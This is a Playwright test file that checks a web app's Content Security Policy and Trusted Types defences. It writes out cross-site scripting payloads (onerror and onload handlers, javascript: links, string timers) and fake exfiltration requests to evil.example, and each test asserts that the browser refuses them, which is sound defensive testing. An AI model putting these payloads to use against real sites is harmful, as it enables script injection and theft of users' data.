import { expect, test } from '../e2e/fixtures.ts'

test.use({ spoilsPage: true })

// What a script or markup that got into the page, out of a site's name or note, would try. The policy must refuse each.

test('markup from outside runs no script', { tag: ['@daily', '@secrets'] }, async ({ signedInAs }) => {
  const { page } = await signedInAs('ADMIN')
  const ran = await page.evaluate(async () => {
    const markup = '<img src="x" onerror="window.evil = 1"><svg onload="window.evil = 2"></svg><a href="javascript:window.evil=3">x</a>'
    const refused = new Promise((resolve) => document.addEventListener('securitypolicyviolation', resolve, { once: true }))
    // Not by `innerHTML`, whose handlers are taken out: what came here all the same, the policy has to stop.
    document.body.append(...new DOMParser().parseFromString(markup, 'text/html').body.childNodes)
    document.querySelector<HTMLAnchorElement>('a[href^=javascript]')?.click()
    await refused
    return 'evil' in window
  })
  expect(ran).toBe(false)
})

test('text is never compiled to a script', { tag: ['@daily', '@secrets'] }, async ({ signedInAs }) => {
  const { page } = await signedInAs('ADMIN')
  // Playwright's own evaluation stands outside the policy; a timer inside the page does not.
  const compiled = await page.evaluate(async () => {
    let refusal: unknown
    try {
      // oxlint-disable-next-line eslint/no-implied-eval -- this is the attack
      setTimeout('window.evil = 1' as unknown as () => void, 0)
    } catch (cause) {
      refusal = cause
    }
    await new Promise((resolve) => setTimeout(resolve))
    return { refused: refusal instanceof TypeError, ran: 'evil' in window }
  })
  expect(compiled).toEqual({ refused: true, ran: false })
})

test('the page talks to nobody itself', { tag: ['@daily', '@secrets'] }, async ({ signedInAs, platform }) => {
  const { page } = await signedInAs('ADMIN')
  const answers = await page.evaluate(async (address) => {
    const outcome = (attempt: Promise<unknown>) =>
      attempt.then(
        () => 'sent',
        () => 'refused',
      )
    const picture = new Promise((resolve, reject) => {
      const image = new Image()
      image.addEventListener('load', resolve)
      image.addEventListener('error', reject)
      image.src = 'https://evil.example/?stolen'
    })
    return [await outcome(fetch(address, { mode: 'no-cors' })), await outcome(fetch('/index.html')), await outcome(picture)]
  }, platform.urls.graphql)
  expect(answers).toEqual(['refused', 'refused', 'refused'])
})

test('a style needs the nonce of its document', { tag: ['@daily', '@secrets'] }, async ({ signedInAs }) => {
  const { page } = await signedInAs('ADMIN')
  const color = await page.evaluate(() => {
    const style = document.createElement('style')
    style.textContent = 'body { outline-color: rgb(1, 2, 3) !important }'
    document.head.append(style)
    return getComputedStyle(document.body).outlineColor
  })
  expect(color).not.toBe('rgb(1, 2, 3)')
})

test('the console itself breaks no rule of the policy', { tag: ['@daily', '@secrets'] }, async ({ signedInAs }) => {
  const { page } = await signedInAs('ADMIN')
  const refused: string[] = []
  page.on('console', (message) => {
    if (/Content Security Policy/i.test(message.text())) refused.push(message.text())
  })
  await page.reload()
  await expect(page.getByRole('grid')).toBeVisible()
  expect(refused).toEqual([])
})

test('text becomes markup without anything that runs, and never script', { tag: ['@daily', '@secrets'] }, async ({ signedInAs }) => {
  const { page } = await signedInAs('ADMIN')
  const found = await page.evaluate(() => {
    const refused = (attempt: () => unknown): boolean => {
      try {
        attempt()
        return false
      } catch (cause) {
        return cause instanceof TypeError
      }
    }
    const host = document.createElement('div')
    host.innerHTML = '<b onclick="x()">bold</b><script>x()</script><iframe srcdoc="x"></iframe><tr><td>cell'
    const script = document.createElement('script')
    return {
      markup: host.innerHTML,
      untouched: Object.assign(document.createElement('tbody'), { innerHTML: '<tr><td>1</td></tr>' }).innerHTML,
      text: refused(() => (script.text = 'x()')),
      source: refused(() => (script.src = 'https://evil.example/x.js')),
      worker: refused(() => new Worker('https://evil.example/x.js')),
      handler: refused(() => host.setAttribute('onclick', 'x()')),
      policy: refused(() =>
        (window as never as { trustedTypes: { createPolicy: (name: string, rules: object) => void } }).trustedTypes.createPolicy('mine', {}),
      ),
    }
  })
  expect(found).toEqual({
    markup: '<b>bold</b>cell',
    untouched: '<tr><td>1</td></tr>',
    text: true,
    source: true,
    worker: true,
    handler: true,
    policy: true,
  })
})
